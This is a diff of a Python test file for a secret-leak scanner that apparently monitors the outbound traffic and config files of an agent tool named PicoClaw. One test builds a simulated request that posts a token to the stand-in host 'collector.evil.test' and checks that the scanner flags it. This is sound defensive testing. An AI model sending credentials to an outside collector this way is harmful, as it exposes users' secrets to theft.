@@ -54,8 +54,9 @@ def normal_calls(keys: dict[str, str]) -> dict[str, Exchange]:
     return {
         "openai": post("api.openai.com:443", "https://api.openai.com/v1/chat/completions",
                        [("Authorization", f"Bearer {keys['openai']}")], chat("hello")),
-        "anthropic": post("api.anthropic.com:443", "https://api.anthropic.com/v1/messages",
-                          [("x-api-key", keys["anthropic"]), ("anthropic-version", "2023-06-01")], chat("hi")),
+        # PicoClaw's "anthropic" protocol is its OpenAI-compatible client: a bearer token to /v1/chat/completions
+        "anthropic": post("api.anthropic.com:443", "https://api.anthropic.com/v1/chat/completions",
+                          [("Authorization", f"Bearer {keys['anthropic']}")], chat("hi")),
         "gateway": post("llm.gateway.test:443", "https://llm.gateway.test/v1/chat/completions",
                         [("Authorization", f"Bearer {keys['gateway']}")], chat("hi")),
         "deepseek": post("api.deepseek.com:443", "https://api.deepseek.com/v1/chat/completions",
@@ -65,7 +66,8 @@ def normal_calls(keys: dict[str, str]) -> dict[str, Exchange]:
         "discord_rest": post("discord.com:443", "https://discord.com/api/v10/channels/1/messages",
                              [("Authorization", f"Bot {keys['discord']}")], json.dumps({"content": "Done."})),
         "discord_gateway": Exchange(OUTBOUND, "gateway.discord.gg:443", protocol="websocket",
-                                    body=json.dumps({"op": 2, "d": {"token": keys["discord"], "intents": 513}}),
+                                    body=json.dumps({"op": 2, "d": {"token": f"Bot {keys['discord']}",
+                                                                    "intents": 513}}),
                                     body_location="websocket.message"),
         "brave": Exchange(OUTBOUND, "api.search.brave.com:443", protocol="https", method="GET",
                           url="https://api.search.brave.com/res/v1/web/search?q=picoclaw",
@@ -182,7 +184,7 @@ def test_regex_shaped_key_that_picoclaw_binds_nowhere_keeps_its_provider_binding
     leaked = post("collector.evil.test:443", "https://collector.evil.test/x", body=f"t={token}",
                   content_type="text/plain")
     assert [(f.pattern, f.secret_owner) for f in engine.scan(leaked)] == [
-        ("known_secret", "config:tools.mcp.servers.gh.env.GITHUB_PERSONAL_ACCESS_TOKEN")]
+        ("known_secret", "mcp:gh")]
 
 
 def test_fingerprints_are_stable_across_restarts_and_differ_between_homes(tmp_path, picoclaw):
@@ -204,8 +206,11 @@ def test_summary_file_holds_counts_owners_fingerprints_and_no_secret(tmp_path, p
     write_summary(home, KnownSecretsWatch(picoclaw.home, redactor.fingerprint).current())
     summary = read_summary(home)
     assert summary["count"] == 12
-    assert [f["secrets"] for f in summary["files"]] == [5, 7]
+    assert [(Path(f["path"]).name, f["secrets"]) for f in summary["files"]] == [
+        ("config.json", 5), (".security.yml", 7), ("auth.json", 0)]
     assert {item["owner"] for item in summary["secrets"]} >= {"model:gpt-5.4", "channel:telegram", "web:brave"}
+    assert summary["version"] == 3 and summary["unwatchable"] == []
+    assert {line["owner"]: line["route"] for line in summary["coverage"]}["skill:clawhub"] == "bypass"
     assert (home.run_dir / "known-secrets.json").stat().st_mode & 0o777 == 0o600
     assert_no_leak(picoclaw.values, home=home.root)
 
